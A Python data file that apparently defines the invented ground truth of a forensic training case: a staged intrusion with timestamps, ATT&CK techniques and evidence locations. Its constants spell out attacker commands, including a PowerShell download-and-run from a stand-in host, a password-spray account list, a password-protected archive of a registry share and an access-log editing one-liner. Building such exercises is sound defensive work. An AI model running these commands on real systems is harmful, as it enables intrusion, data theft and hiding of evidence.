"""The story of the demo case, as data: what happens when (true time, UTC) and where the evidence shows it.

Everything here is invented. Ordinary life goes on around it from BEGIN to END; WEB01's clock runs 187 seconds fast, so its
event logs and its access log say every time three minutes and seven seconds later than it was.
"""

from __future__ import annotations

from dataclasses import dataclass
from datetime import UTC, datetime

DAY = "2026-01-21"
SECOND = 1_000_000_000
MINUTE = 60 * SECOND


def at(clock: str, day: str = DAY) -> int:
    """A true instant in ns since 1970 from a UTC clock time such as `19:02:10` or `19:02:10.250`."""
    whole, _, fraction = clock.partition(".")
    moment = datetime.fromisoformat(f"{day}T{whole}").replace(tzinfo=UTC)
    return int(moment.timestamp()) * SECOND + int((fraction or "0").ljust(9, "0"))


BEGIN = at("23:00:00", "2026-01-19")
END = at("22:30:00")
CAPTURE_BEGIN, CAPTURE_END = at("18:30:00"), at("21:45:00")
LOG_ROTATED = at("23:00:00", "2026-01-20")  # midnight in Tamrirt, by WEB01's own clock
HOLE_BEGIN, HOLE_END = at("19:24:30"), at("19:43:00")  # the access-log lines that the intruder removes
EXPORTED = at("21:00:00")  # the hourly export of SRV02's Security log: what was logged later is lost
CLEARED = at("21:18:10")
CLEARED_LOGS = ("Application", "Security")  # of SRV02, in this order
RESTARTED = at("21:24:20")  # Apache is stopped for the edit of its log and started again

SCAN_BEGIN, SCAN_END = at("19:02:10"), at("19:09:40")
UPLOAD = at("19:14:32")
SHELL_PAGE = "/uploads/piece_7c1e90.php"
ORDINARY_AGENT = "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:128.0) Gecko/20100101 Firefox/128.0"
SHELL_AGENT = "curl/8.4.0"

# Commands typed into the web shell: when, command, program it starts beneath cmd.exe (None: built into cmd.exe).
SHELL_COMMANDS: tuple[tuple[str, str, str | None], ...] = (
    ("19:16:05", "whoami", "whoami.exe"),
    ("19:16:41", "ipconfig /all", "ipconfig.exe"),
    ("19:17:30", "net user", "net.exe"),
    ("19:18:22", 'net group "Domain Admins" /domain', "net.exe"),
    ("19:20:10", "dir C:\\Apache24\\htdocs", None),
    ("19:22:17", "tasklist /v", "tasklist.exe"),
    ("19:26:40", "powershell -nop -w hidden -enc {ENCODED}", "powershell.exe"),
    ("19:29:02", "curl -s http://intranet.tamrirt.example/", "curl.exe"),
    ("19:30:15", "curl -s http://intranet.tamrirt.example/annuaire/", "curl.exe"),
    ("19:31:48", "curl -s http://intranet.tamrirt.example/annuaire/export?format=csv", "curl.exe"),
    ("19:33:20", "netstat -ano", "netstat.exe"),
    ("19:35:06", "nltest /dclist:tamrirt", "nltest.exe"),
    ("19:37:51", "net view \\\\SRV02 /all", "net.exe"),
    ("19:40:12", "cmdkey /list", "cmdkey.exe"),
    ("19:45:33", "systeminfo", "systeminfo.exe"),
)
INTRANET_READS = (("19:29:02", "/", ""), ("19:30:15", "/annuaire/", ""), ("19:31:48", "/annuaire/export", "format=csv"))
DOWNLOAD_SCRIPT = (
    "$w=New-Object Net.WebClient;$w.DownloadFile('https://status.cdn-relay.example/r.bin','C:\\ProgramData\\Relay\\wrelay.exe');"
    "Start-Process C:\\ProgramData\\Relay\\wrelay.exe"
)
IMPLANT = "C:\\ProgramData\\Relay\\wrelay.exe"

BEACON_BEGIN, BEACON_END = at("19:27:05"), at("22:10:00")
BEACON_PERIOD_S, BEACON_JITTER_MS = 60, 2_500

SPRAY_BEGIN = at("20:05:00")
SPRAYED = ("administrateur", "admin", "adm.tazarine", "svc_sauvegarde", "svc_web", "y.amsaad", "stagiaire")
SPRAY_ROUNDS, SPRAY_STEP_MS = 8, 3_900
SPRAY_HIT = at("20:09:12")
RDP_BEGIN, RDP_LEFT, RDP_AGAIN, RDP_END = at("20:14:20"), at("20:57:40"), at("21:12:30"), at("21:31:05")

SERVICE_INSTALLED = at("20:22:05")
SERVICE_NAME = "WinTelemetrySync"
SERVICE_FILE = "C:\\ProgramData\\svchelper\\tsync.exe"
ARCHIVED = at("20:41:30")
ARCHIVE_COMMAND = '"C:\\ProgramData\\svchelper\\rar.exe" a -r -m3 -hpT4m!9kQ C:\\ProgramData\\svchelper\\d1.rar D:\\Partages\\EtatCivil\\*'
DROP_BEGIN, DROP_BYTES = at("20:50:00"), 4_200_000
TUNNEL_BEGIN, TUNNEL_QUERIES, TUNNEL_STEP_MS = at("20:58:00"), 520, 900
LOG_EDIT_COMMAND = (
    "powershell -nop -c \"$p='C:\\Apache24\\logs\\access.log';$n=0;(gc $p)|?{$n++;$n -lt $a -or $n -gt $b}|sc $p\""
)

# Where the evidence lies inside the folder.
WEB_SECURITY, WEB_SYSTEM = "WEB01/evtx/Security.evtx", "WEB01/evtx/System.evtx"
WEB_SYSMON = "WEB01/evtx/Microsoft-Windows-Sysmon%4Operational.evtx"
WEB_POWERSHELL = "WEB01/evtx/Microsoft-Windows-PowerShell%4Operational.evtx"
ACCESS_LOG, OLD_ACCESS_LOG = "WEB01/apache/access.log", "WEB01/apache/access.log.1.gz"
SRV_SECURITY, SRV_SYSTEM = "SRV02/evtx/Security.evtx", "SRV02/evtx/System.evtx"
SRV_SYSMON = "SRV02/evtx/Microsoft-Windows-Sysmon%4Operational.evtx"
SRV_SESSIONS = "SRV02/evtx/Microsoft-Windows-TerminalServices-LocalSessionManager%4Operational.evtx"
SRV_RDP = "SRV02/evtx/Microsoft-Windows-TerminalServices-RemoteConnectionManager%4Operational.evtx"
EXPORT = "SRV02/sauvegarde/journal_securite_20260121T2100Z.zip"
EXPORT_MEMBER = "Security_20260121T2100Z.evtx"
IIS_LOGS = "SRV02/inetpub/W3SVC1/u_ex{day}.log"
CAPTURE = "capture/portail_20260121.pcap"
NOTE = "capture/note_de_capture.txt"


@dataclass(frozen=True, slots=True)
class Trace:
    """Where a step can be seen: a file of the evidence (below its exhibit's folder) and the `event` of its rows in the timeline.

    `gap` is no row: it is the absence of rows. `time_ns` is the true time of this trace where it is not the step's own.
    """

    file: str
    kind: str
    time_ns: int | None = None


@dataclass(frozen=True, slots=True)
class Step:
    """One thing that happened. `time_ns` is true time; `technique` is the ATT&CK technique."""

    name: str
    time_ns: int
    what: str
    technique: str
    traces: tuple[Trace, ...]

    @property
    def time_utc(self) -> str:
        return datetime.fromtimestamp(self.time_ns // SECOND, UTC).strftime("%Y-%m-%dT%H:%M:%SZ")


def _seen(*traces: tuple[str, str] | tuple[str, str, int]) -> tuple[Trace, ...]:
    return tuple(Trace(*trace) for trace in traces)


IIS_DAY = IIS_LOGS.format(day="260121")
EXPORTED_SECURITY = f"{EXPORT}/{EXPORT_MEMBER}"

TRUTH: tuple[Step, ...] = (
    Step("scan", SCAN_BEGIN, "203.0.113.66 scans the portal: a scanner's agent, missing pages, traversal and SQL tries.",
         "T1595.003", _seen((ACCESS_LOG, "http.request"), (CAPTURE, "http.request"))),
    Step("upload", UPLOAD, f"A PHP file is sent through the upload form and answers as {SHELL_PAGE}.",
         "T1190", _seen((ACCESS_LOG, "http.request"), (CAPTURE, "http.request"), (WEB_SYSMON, "11"))),
    Step("web-shell", at("19:16:05"), "Commands are run through the web shell.",
         "T1505.003", _seen((ACCESS_LOG, "http.request"), (CAPTURE, "http.request"), (WEB_SYSMON, "1"), (WEB_SECURITY, "4688"))),
    Step("shell", at("19:26:40"), "The web server's account starts cmd.exe and an encoded PowerShell command.",
         "T1059.001", _seen((WEB_SYSMON, "1"), (WEB_SECURITY, "4688"), (WEB_POWERSHELL, "4104"), (CAPTURE, "http.request"))),
    Step("implant", at("19:26:58"), f"{IMPLANT} is written and started.",
         "T1105", _seen((WEB_SYSMON, "11"), (WEB_SYSMON, "1"), (WEB_SECURITY, "4688"))),
    Step("beacon", BEACON_BEGIN, "WEB01 calls 198.51.100.23 about every 60 seconds until the network is cut.",
         "T1071.001", _seen((CAPTURE, "ssl.hello"), (WEB_SYSMON, "3"))),
    Step("intranet", at("19:29:02"), "The intranet is read from WEB01.",
         "T1213", _seen((IIS_DAY, "http.request"), (CAPTURE, "http.request"), (WEB_SYSMON, "1"))),
    Step("spray", SPRAY_BEGIN, "Seven accounts are tried on SRV02 from WEB01's address.",
         "T1110.003", _seen((EXPORTED_SECURITY, "4625"), (CAPTURE, "conn"))),
    Step("valid-account", SPRAY_HIT, "svc_sauvegarde logs on to SRV02 from WEB01's address.",
         "T1078.002", _seen((EXPORTED_SECURITY, "4624"))),
    Step("rdp", RDP_BEGIN, "svc_sauvegarde opens a remote desktop on SRV02 from WEB01's address.",
         "T1021.001", _seen((EXPORTED_SECURITY, "4624"), (SRV_SESSIONS, "21"), (SRV_SESSIONS, "25", RDP_AGAIN), (SRV_RDP, "1149"),
                            (CAPTURE, "conn"))),
    Step("service", SERVICE_INSTALLED, f"The service {SERVICE_NAME} is installed on SRV02.",
         "T1543.003", _seen((SRV_SYSTEM, "7045"), (EXPORTED_SECURITY, "4697"), (SRV_SYSMON, "13"))),
    Step("archive", ARCHIVED, "The civil registry share is packed into an encrypted archive.",
         "T1560.001", _seen((SRV_SYSMON, "1"), (EXPORTED_SECURITY, "4688"), (SRV_SYSMON, "11"))),
    Step("exfiltration-https", DROP_BEGIN, "4.2 MB leave SRV02 for 198.51.100.23 over HTTPS.",
         "T1041", _seen((CAPTURE, "conn"), (CAPTURE, "ssl.hello"), (SRV_SYSMON, "3"))),
    Step("exfiltration-dns", TUNNEL_BEGIN, "520 DNS queries with long labels carry data out of SRV02.",
         "T1048.003", _seen((CAPTURE, "dns.query"))),
    Step("log-cleared", CLEARED, "SRV02's Security and Application logs are cleared.",
         "T1070.001", _seen((SRV_SECURITY, "1102"), (SRV_SYSTEM, "104"), (SRV_SYSMON, "1"))),
    Step("lines-removed", RESTARTED, "Access-log lines from 19:24:30 to 19:43:00 (true time) are removed on WEB01.",
         "T1070", _seen((WEB_SYSMON, "1"), (WEB_SYSTEM, "7036"), (ACCESS_LOG, "gap", HOLE_BEGIN),
                     (CAPTURE, "http.request", at("19:26:40")))),
)  # fmt: skip
